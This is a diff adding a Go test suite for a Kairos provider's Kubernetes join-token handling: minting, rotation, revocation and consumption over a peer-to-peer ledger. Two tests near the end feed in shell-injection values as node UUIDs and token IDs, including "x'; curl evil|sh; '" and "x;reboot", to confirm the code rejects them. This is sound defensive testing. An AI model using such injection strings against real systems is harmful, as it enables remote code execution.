@@ -0,0 +1,177 @@
+package role
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"time"
+
+	logging "github.com/ipfs/go-log"
+	"github.com/kairos-io/provider-kairos/v2/internal/role/ledger"
+	service "github.com/mudler/edgevpn/api/client/service"
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+)
+
+var _ = Describe("Join tokens", func() {
+	var (
+		network *ledger.MemoryNetwork
+		l       ledger.Ledger
+		c       *service.RoleConfig
+		now     time.Time
+		minted  []string
+		revoked []string
+		mint    func(uuid string, ttl time.Duration) (string, error)
+		revoke  func(token string) error
+	)
+
+	BeforeEach(func() {
+		logging.SetLogLevel("p2p-test", "fatal") //nolint:errcheck
+		network = ledger.NewMemoryNetwork("master", "worker", "ha")
+		l = network.Node("master")
+		c = &service.RoleConfig{UUID: "master", Logger: logging.Logger("p2p-test")}
+		now = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+		minted = []string{}
+		revoked = []string{}
+		mint = func(uuid string, _ time.Duration) (string, error) {
+			minted = append(minted, uuid)
+			return fmt.Sprintf("token-%s-%d", uuid, len(minted)), nil
+		}
+		revoke = func(token string) error {
+			revoked = append(revoked, token)
+			return nil
+		}
+		Expect(l.Set("role", "master", RoleMasterClusterInit)).To(Succeed())
+		Expect(l.Set("role", "worker", RoleWorker)).To(Succeed())
+		Expect(l.Set("role", "ha", RoleMasterHA)).To(Succeed())
+	})
+
+	It("mints a token for each worker only", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(minted).To(Equal([]string{"worker"}))
+
+		w := network.Node("worker")
+		Expect(readJoinToken(w, "worker", now)).To(Equal("token-worker-1"))
+		Expect(readJoinToken(w, "ha", now)).To(BeEmpty())
+	})
+
+	It("doesn't mint again while the token is valid", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now.Add(30*time.Minute), mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(1))
+	})
+
+	It("mints a new token before it expires", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(readJoinToken(l, "worker", now.Add(time.Hour))).To(BeEmpty())
+
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now.Add(50*time.Minute), mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(2))
+		Expect(readJoinToken(l, "worker", now.Add(time.Hour))).To(Equal("token-worker-2"))
+		Expect(revoked).To(Equal([]string{"token-worker-1"}))
+	})
+
+	It("doesn't revoke the tokens which expired already", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now.Add(2*time.Hour), mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(2))
+		Expect(revoked).To(BeEmpty())
+	})
+
+	It("keeps the new token when revoking the previous one fails", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		failing := func(string) error { return errors.New("not found") }
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now.Add(50*time.Minute), mint, failing)).To(Succeed())
+		Expect(readJoinToken(l, "worker", now.Add(time.Hour))).To(Equal("token-worker-2"))
+	})
+
+	It("deletes the token once consumed", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+
+		w := network.Node("worker")
+		Expect(consumeJoinToken(w, "worker", "10.1.0.1")).To(Succeed())
+		Expect(readJoinToken(w, "worker", now)).To(BeEmpty())
+
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now.Add(2*time.Hour), mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(1))
+	})
+
+	It("mints a new token when the master moves", func() {
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(consumeJoinToken(network.Node("worker"), "worker", "10.1.0.1")).To(Succeed())
+
+		Expect(publishJoinTokens(c, l, "10.1.0.2", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(2))
+	})
+
+	It("retries the workers it failed minting a token for", func() {
+		failing := func(string, time.Duration) (string, error) { return "", errors.New("not ready") }
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, failing, revoke)).To(Succeed())
+		Expect(readJoinToken(l, "worker", now)).To(BeEmpty())
+
+		Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, mint, revoke)).To(Succeed())
+		Expect(minted).To(HaveLen(1))
+	})
+
+	It("finds the ID of the bootstrap tokens to revoke", func() {
+		Expect(bootstrapTokenID("abcdef.0123456789abcdef")).To(Equal("abcdef"))
+		Expect(bootstrapTokenID("K10cafe::abcdef.0123456789abcdef")).To(Equal("abcdef"))
+
+		var buf bytes.Buffer
+		w := gzip.NewWriter(&buf)
+		_, err := w.Write([]byte("users:\n- name: kubelet-bootstrap\n  user:\n    token: abcdef.0123456789abcdef\n"))
+		Expect(err).ToNot(HaveOccurred())
+		Expect(w.Close()).To(Succeed())
+		Expect(k0sTokenID(base64.StdEncoding.EncodeToString(buf.Bytes()))).To(Equal("abcdef"))
+
+		_, err = k0sTokenID("not a token")
+		Expect(err).To(HaveOccurred())
+	})
+
+	Context("with the distribution binary", func() {
+		var commands [][]string
+
+		BeforeEach(func() {
+			commands = [][]string{}
+			run := tokenCommand
+			tokenCommand = func(bin string, args ...string) (string, error) {
+				commands = append(commands, append([]string{bin}, args...))
+				return "abcdef.0123456789abcdef", nil
+			}
+			DeferCleanup(func() { tokenCommand = run })
+		})
+
+		It("passes the node UUID as a single argument", func() {
+			k := &K3sNode{}
+			Expect(k.JoinToken("0123-node.local", time.Hour)).To(Equal("abcdef.0123456789abcdef"))
+			Expect(commands).To(HaveLen(1))
+			Expect(commands[0][1:]).To(Equal([]string{"token", "create", "--ttl", "1h0m0s", "--description", "kairos node 0123-node.local"}))
+
+			Expect(k.RevokeJoinToken("K10cafe::abcdef.0123456789abcdef")).To(Succeed())
+			Expect(commands[1][1:]).To(Equal([]string{"token", "delete", "abcdef"}))
+		})
+
+		It("refuses hostile node UUIDs and token IDs", func() {
+			for _, k := range []K8sNode{&K3sNode{}, &RKE2Node{}} {
+				_, err := k.JoinToken("x'; curl evil|sh; '", time.Hour)
+				Expect(err).To(MatchError(ContainSubstring("invalid node UUID")))
+				Expect(k.RevokeJoinToken("x;reboot.secret")).To(MatchError(ContainSubstring("invalid bootstrap token ID")))
+			}
+			Expect((&K0sNode{}).RevokeJoinToken("x;reboot")).ToNot(Succeed())
+			Expect(commands).To(BeEmpty())
+		})
+
+		It("doesn't mint tokens for nodes advertizing hostile UUIDs", func() {
+			hostile := "x'; curl evil|sh; '"
+			network = ledger.NewMemoryNetwork("master", hostile)
+			l = network.Node("master")
+			Expect(l.Set("role", hostile, RoleWorker)).To(Succeed())
+
+			Expect(publishJoinTokens(c, l, "10.1.0.1", time.Hour, now, (&K3sNode{}).JoinToken, (&K3sNode{}).RevokeJoinToken)).To(Succeed())
+			Expect(commands).To(BeEmpty())
+			Expect(readJoinToken(l, hostile, now)).To(BeEmpty())
+		})
+	})
+})